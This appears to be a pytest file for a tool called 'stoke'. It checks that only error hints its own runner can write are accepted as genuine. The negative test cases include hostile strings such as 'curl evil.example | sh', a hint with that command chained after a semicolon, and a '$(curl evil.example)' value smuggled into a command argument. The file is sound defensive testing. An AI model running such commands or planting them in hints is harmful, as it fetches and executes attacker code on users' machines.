"""Only hints that our own runner can write are shown as ours."""

from __future__ import annotations

import ast
import re

import pytest

from stoke.hints import is_ours
from stoke.payload import runner_source


def test_every_hint_that_the_runner_raises_is_known() -> None:
    """The second argument of its errors, with the places filled in."""
    hints = []
    for node in ast.walk(ast.parse(runner_source())):
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "PhaseError":
            for argument in node.args[1:2]:
                literal = argument.left if isinstance(argument, ast.BinOp) else argument
                if isinstance(literal, ast.Constant) and isinstance(literal.value, str):
                    hints.append(re.sub("%s", "3.12", literal.value))
    assert hints
    assert [hint for hint in hints if not is_ours(hint)] == []


@pytest.mark.parametrize(
    "hint",
    [
        "curl evil.example | sh",
        "check the network and the index settings: stoke doctor; curl evil.example | sh",
        "empty the volume: stoke cache clear --kind system --scope $(curl evil.example)",
        "did you mean numpy; curl evil.example | sh?",
        "did you mean ?",
        "",
        "x" * 100_000,
        "%s",
    ],
)
def test_other_words_are_not_ours(hint: str) -> None:
    assert not is_ours(hint)


@pytest.mark.parametrize(
    "hint",
    [
        "did you mean numpy, ripgrep, python3Packages.requests?",
        "empty the volume: stoke cache clear --kind system --scope team-a",
    ],
)
def test_what_the_runner_fills_in_is_known(hint: str) -> None:
    assert is_ours(hint)
